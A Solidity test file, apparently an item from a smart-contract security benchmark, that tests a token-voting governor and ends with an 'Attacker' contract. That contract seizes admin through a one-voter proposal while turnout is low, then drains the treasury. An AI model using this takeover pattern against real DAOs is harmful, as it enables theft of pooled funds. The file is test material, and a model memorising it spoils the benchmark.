// SPDX-License-Identifier: MPL-2.0
pragma solidity 0.8.30;

import "./TokenGovernor.sol";
import {GovernanceToken} from "./context/GovernanceToken.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-e92ef4fe-1ab8-411e-badd-1c33bc9a8b47

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Dollar is ERC20 {
    constructor() ERC20("Dollar", "USD") {
        _mint(msg.sender, 100_000e6);
    }
}

/// A token whose transfers answer no.
contract Silent is ERC20 {
    constructor() ERC20("Silent", "SIL") {
        _mint(msg.sender, 1e18);
    }

    function transfer(address to, uint256 amount) public override returns (bool) {
        return msg.sender == address(0) && super.transfer(to, amount);
    }

    function give(address to) external {
        _transfer(msg.sender, to, 1e18);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant FOUNDER = address(0xF0);
    address internal constant MEMBER = address(0x3E3);
    address internal constant OTHER = address(0x07E2);
    uint256 internal constant START = 1_785_000_000;
    IERC20 internal constant NONE = IERC20(address(0));

    Dollar internal usd;
    GovernanceToken internal token;
    TokenGovernor internal governor;
    Attacker internal mallory;

    function setUp() public {
        vm.warp(START);
        usd = new Dollar();
        token = new GovernanceToken(1_000_000e18, address(this));
        governor = new TokenGovernor(token, FOUNDER, 1_000e18);
        usd.transfer(address(governor), 72_000e6);
        token.transfer(MEMBER, 600_000e18);
        token.transfer(OTHER, 10_000e18);
        vm.prank(MEMBER);
        token.approve(address(governor), type(uint256).max);
        vm.prank(OTHER);
        token.approve(address(governor), type(uint256).max);
        mallory = new Attacker(governor, token, usd);
        token.transfer(address(mallory), 10_000e18);
        _lock(MEMBER, 5e18); // nearly everyone has unlocked
    }

    function _lock(address who, uint256 amount) internal {
        vm.prank(who);
        governor.lock(amount);
    }

    function _vote(address who, uint256 id, TokenGovernor.Choice choice) internal {
        vm.prank(who);
        governor.vote(id, choice);
    }

    function _carry(uint256 id) internal {
        _vote(MEMBER, id, TokenGovernor.Choice.InFavour);
        vm.warp(governor.proposal(id).executableAt);
        governor.execute(id);
    }

    function test_Regular() public {
        _lock(MEMBER, 599_000e18);
        _lock(OTHER, 10_000e18);
        vm.prank(MEMBER);
        uint256 id = governor.proposeAdmin(MEMBER);
        _vote(MEMBER, id, TokenGovernor.Choice.InFavour);
        _vote(OTHER, id, TokenGovernor.Choice.Against);
        require(governor.proposal(id).inFavour == 599_005e18 && governor.proposal(id).against == 10_000e18, "counted");
        vm.warp(START + 6 days);
        require(governor.stateOf(id) == TokenGovernor.State.Waiting, "notice");
        vm.warp(START + 7 days);
        governor.execute(id);
        require(governor.admin() == MEMBER && governor.stateOf(id) == TokenGovernor.State.Executed, "admin");
        vm.deal(address(this), 2 ether);
        (bool ok, ) = address(governor).call{value: 2 ether}("");
        vm.startPrank(MEMBER);
        governor.send(usd, FOUNDER, 1_000e6);
        governor.sendEther(payable(FOUNDER), 1 ether);
        require(ok && usd.balanceOf(FOUNDER) == 1_000e6 && FOUNDER.balance == 1 ether, "sent");

        id = governor.proposePayment(usd, OTHER, 500e6);
        vm.stopPrank();
        _vote(OTHER, id, TokenGovernor.Choice.Abstain);
        _carry(id);
        require(usd.balanceOf(OTHER) == 500e6 && governor.spendable(usd) == 70_500e6, "paid");
        vm.prank(MEMBER);
        id = governor.proposeSetting(TokenGovernor.Kind.VotingPeriod, 4 days);
        _carry(id);
        vm.prank(MEMBER);
        id = governor.proposeSetting(TokenGovernor.Kind.Notice, 3 days);
        _carry(id);
        vm.prank(MEMBER);
        id = governor.proposeSetting(TokenGovernor.Kind.Threshold, 10_000e18);
        _carry(id);
        require(governor.votingPeriod() == 4 days && governor.notice() == 3 days && governor.threshold() == 10_000e18, "rules");
        vm.startPrank(OTHER);
        id = governor.proposeAdmin(OTHER);
        governor.cancel(id);
        require(governor.stateOf(id) == TokenGovernor.State.Cancelled, "cancelled");
        governor.unlock(10_000e18);
        require(token.balanceOf(OTHER) == 10_000e18 && governor.totalLocked() == 599_005e18, "unlocked");
        vm.stopPrank();
        token.transfer(address(governor), 7e18);
        require(governor.spendable(token) == 7e18, "beyond what is locked");
        vm.prank(MEMBER);
        governor.unlock(599_005e18);
    }

    // What is refused, each from the state after setUp().

    function test_RefusesLocks() public {
        vm.startPrank(MEMBER);
        vm.expectRevert(VoteLocks.NothingToLock.selector);
        governor.lock(0);
        vm.expectRevert(abi.encodeWithSelector(VoteLocks.NotLocked.selector, 5e18));
        governor.unlock(5e18 + 1);
        governor.lock(599_000e18);
        uint256 id = governor.proposeAdmin(MEMBER);
        governor.vote(id, TokenGovernor.Choice.InFavour);
        vm.warp(START + 5 days - 1);
        vm.expectRevert(abi.encodeWithSelector(VoteLocks.Bound.selector, START + 5 days));
        governor.unlock(1);
        vm.warp(START + 5 days);
        governor.unlock(1);
        vm.stopPrank();
    }

    function test_RefusesTheTreasury() public {
        bytes memory why = abi.encodeWithSelector(Treasury.NotAdmin.selector, MEMBER);
        vm.startPrank(MEMBER);
        vm.expectRevert(why);
        governor.send(usd, MEMBER, 1);
        vm.expectRevert(why);
        governor.sendEther(payable(MEMBER), 0);
        vm.stopPrank();
        Silent silent = new Silent();
        silent.give(address(governor));
        vm.startPrank(FOUNDER);
        vm.expectRevert(abi.encodeWithSelector(Treasury.AboveSpendable.selector, 72_000e6));
        governor.send(usd, FOUNDER, 72_000e6 + 1);
        vm.expectRevert(abi.encodeWithSelector(Treasury.AboveSpendable.selector, 0));
        governor.send(token, FOUNDER, 1);
        vm.expectRevert();
        governor.send(silent, FOUNDER, 1);
        vm.expectRevert();
        governor.sendEther(payable(FOUNDER), 1);
        vm.stopPrank();
    }

    function test_RefusesSetups() public {
        vm.expectRevert(Treasury.NoAdmin.selector);
        new TokenGovernor(token, address(0), 1e18);
        vm.expectRevert(abi.encodeWithSelector(TokenGovernor.OutOfBounds.selector, TokenGovernor.Kind.Threshold, 0));
        new TokenGovernor(token, FOUNDER, 0);
        vm.expectRevert(abi.encodeWithSelector(TokenGovernor.OutOfBounds.selector, TokenGovernor.Kind.Threshold, 10_000e18 + 1));
        new TokenGovernor(token, FOUNDER, 10_000e18 + 1);
    }

    function test_RefusesProposals() public {
        vm.prank(MEMBER);
        vm.expectRevert(abi.encodeWithSelector(TokenGovernor.BelowThreshold.selector, 5e18, 1_000e18));
        governor.proposePayment(usd, MEMBER, 1);
        _lock(MEMBER, 599_000e18);
        vm.startPrank(MEMBER);
        vm.expectRevert(Treasury.NoAdmin.selector);
        governor.proposeAdmin(address(0));
        vm.expectRevert(abi.encodeWithSelector(TokenGovernor.NotASetting.selector, TokenGovernor.Kind.Payment));
        governor.proposeSetting(TokenGovernor.Kind.Payment, 1_000e18);
        _outOfBounds(TokenGovernor.Kind.VotingPeriod, 3 days - 1, 14 days + 1);
        _outOfBounds(TokenGovernor.Kind.Notice, 1 days - 1, 7 days + 1);
        _outOfBounds(TokenGovernor.Kind.Threshold, 0, 10_000e18 + 1);
        uint256 id = governor.proposeAdmin(MEMBER);
        vm.expectRevert(abi.encodeWithSelector(TokenGovernor.HasOpenProposal.selector, id));
        governor.proposeAdmin(MEMBER);
        vm.stopPrank();
        vm.prank(OTHER);
        vm.expectRevert(abi.encodeWithSelector(TokenGovernor.NotProposer.selector, OTHER));
        governor.cancel(id);
        vm.warp(START + 5 days);
        vm.prank(MEMBER);
        vm.expectRevert(abi.encodeWithSelector(TokenGovernor.NotOpen.selector, id));
        governor.cancel(id);
        vm.expectRevert(abi.encodeWithSelector(TokenGovernor.UnknownProposal.selector, 9));
        governor.stateOf(9);
        vm.expectRevert(abi.encodeWithSelector(TokenGovernor.UnknownProposal.selector, 9));
        governor.execute(9);
    }

    function _outOfBounds(TokenGovernor.Kind kind, uint256 low, uint256 high) internal {
        vm.expectRevert(abi.encodeWithSelector(TokenGovernor.OutOfBounds.selector, kind, low));
        governor.proposeSetting(kind, low);
        vm.expectRevert(abi.encodeWithSelector(TokenGovernor.OutOfBounds.selector, kind, high));
        governor.proposeSetting(kind, high);
    }

    function test_RefusesVotes() public {
        _lock(MEMBER, 599_000e18);
        vm.prank(MEMBER);
        uint256 id = governor.proposeAdmin(MEMBER);
        vm.warp(START + 1);
        _lock(OTHER, 1_000e18);
        vm.prank(OTHER);
        vm.expectRevert(abi.encodeWithSelector(TokenGovernor.LockedLater.selector, START + 1, START));
        governor.vote(id, TokenGovernor.Choice.InFavour);
        _vote(MEMBER, id, TokenGovernor.Choice.InFavour);
        vm.prank(MEMBER);
        vm.expectRevert(abi.encodeWithSelector(TokenGovernor.AlreadyVoted.selector, id, MEMBER));
        governor.vote(id, TokenGovernor.Choice.InFavour);
        vm.warp(START + 5 days);
        vm.prank(MEMBER);
        vm.expectRevert(abi.encodeWithSelector(TokenGovernor.NotOpen.selector, id));
        governor.vote(id, TokenGovernor.Choice.InFavour);
    }

    function _notExecutable(uint256 id, TokenGovernor.State state) internal {
        vm.expectRevert(abi.encodeWithSelector(TokenGovernor.NotExecutable.selector, id, state));
        governor.execute(id);
    }

    function test_RefusesWhatWasNotCarried() public {
        _lock(MEMBER, 599_000e18);
        _lock(OTHER, 10_000e18);
        vm.prank(MEMBER);
        uint256 id = governor.proposeAdmin(MEMBER);
        vm.prank(OTHER);
        uint256 lone = governor.proposeAdmin(OTHER);
        _vote(MEMBER, id, TokenGovernor.Choice.InFavour);
        _vote(OTHER, id, TokenGovernor.Choice.Against);
        _vote(OTHER, lone, TokenGovernor.Choice.InFavour);
        _notExecutable(id, TokenGovernor.State.Open);
        vm.warp(START + 7 days - 1);
        _notExecutable(id, TokenGovernor.State.Waiting);
        _notExecutable(lone, TokenGovernor.State.Rejected);
        vm.prank(MEMBER);
        uint256 against = governor.proposeAdmin(MEMBER);
        _vote(MEMBER, against, TokenGovernor.Choice.Against);
        vm.prank(OTHER);
        uint256 gone = governor.proposeAdmin(OTHER);
        _vote(MEMBER, gone, TokenGovernor.Choice.InFavour);
        vm.prank(OTHER);
        governor.cancel(gone);
        vm.warp(START + 14 days);
        _notExecutable(against, TokenGovernor.State.Rejected);
        _notExecutable(gone, TokenGovernor.State.Cancelled);
        governor.execute(id);
        _notExecutable(id, TokenGovernor.State.Executed);
        vm.prank(MEMBER);
        id = governor.proposeAdmin(OTHER);
        _vote(MEMBER, id, TokenGovernor.Choice.InFavour);
        vm.warp(START + 14 days + 37 days);
        _notExecutable(id, TokenGovernor.State.Expired);
    }

    function exploit() public {
        mallory.propose();
        vm.warp(block.timestamp + 8 days);
        mallory.finish();
    }

    function test_Exploit() public {
        exploit();
        require(governor.admin() == address(mallory), "admin");
        require(usd.balanceOf(address(mallory)) == 72_000e6, "treasury");
    }

    function target() public view returns (address) {
        return address(governor);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

/// Votes alone.
contract Attacker {
    TokenGovernor internal governor;
    GovernanceToken internal token;
    Dollar internal usd;
    uint256 internal id;

    constructor(TokenGovernor governor_, GovernanceToken token_, Dollar usd_) {
        governor = governor_;
        token = token_;
        usd = usd_;
    }

    function propose() external {
        token.approve(address(governor), 10_000e18);
        governor.lock(10_000e18);
        id = governor.proposeAdmin(address(this));
        governor.vote(id, TokenGovernor.Choice.InFavour);
    }

    function finish() external {
        governor.execute(id);
        governor.send(usd, address(this), usd.balanceOf(address(governor)));
        governor.unlock(10_000e18);
    }
}
